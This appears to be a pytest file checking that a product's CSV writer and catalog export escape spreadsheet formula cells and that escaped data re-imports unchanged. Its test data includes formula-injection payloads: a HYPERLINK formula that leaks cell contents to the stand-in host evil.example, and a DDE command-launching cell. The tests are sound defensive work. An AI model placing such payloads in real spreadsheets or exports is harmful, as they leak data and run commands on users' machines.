"""Issue 18, finding 13: CSV cells a spreadsheet would run as formulas are escaped, in every CSV
this product writes, and the catalog import reads its own escaped export back unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from activereach.catalog.cli import run_import
from activereach.kit import csv_safe
from tests.catalog.conftest import add_location, product, tax_class

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
TRICKY = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "'=already",
          "'", "''", "plain", "", "-3", "+5.25", "12.50", "a=b", "O'Brien"]


@pytest.mark.parametrize("value", TRICKY)
def test_escape_round_trips_and_disarms(value: str) -> None:
    written = csv_safe.escape(value)
    assert csv_safe.unescape(written) == value
    if value and value[0] in "=+-@\t\r" and value not in ("-3", "+5.25"):
        assert written.startswith("'")
    if value in ("-3", "+5.25", "plain", "12.50", "a=b", "O'Brien", ""):
        assert written == value  # numbers stay numbers, text stays readable


def test_the_writer_escapes_every_cell_and_keeps_numbers() -> None:
    out = io.StringIO()
    csv_safe.writer(out, lineterminator="\n").writerows([["day", "net"], [HYPERLINK, "-500"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1] == ["'" + HYPERLINK, "-500"]


async def test_catalog_export_escapes_and_reimports_unchanged(client, make_tenant, db,
                                                              tmp_path: Path) -> None:
    source, target = await make_tenant(), await make_tenant()
    for tenant in (source, target):
        await tax_class(client, tenant, "GST 5", "5")
        await add_location(client, tenant, "blr-1")
    await product(client, source, handle="evil", title=HYPERLINK, category="@SUM(A1:A9)",
                  option_names=["Size"], variants=[
                      {"sku": "+EVIL-1", "options": ["-1+1"], "price": 19900}])
    response = await client.get("/v1/catalog/export", headers=source.admin)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=False))
    assert cells["title"] == "'" + HYPERLINK and cells["category"] == "'@SUM(A1:A9)"
    assert cells["sku"] == "'+EVIL-1" and cells["option1 value"] == "'-1+1"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row
                   if not cell.lstrip("+-").replace(".", "").isdigit())
    path = tmp_path / "catalog.csv"
    path.write_text(response.text, encoding="utf-8")
    report = await run_import(db, target.slug, path)
    assert report["status"] == "done" and report["errors"] == [], report
    again = (await client.get("/v1/catalog/export", headers=target.admin)).text
    assert again == response.text  # the title came back exactly, formula text and all
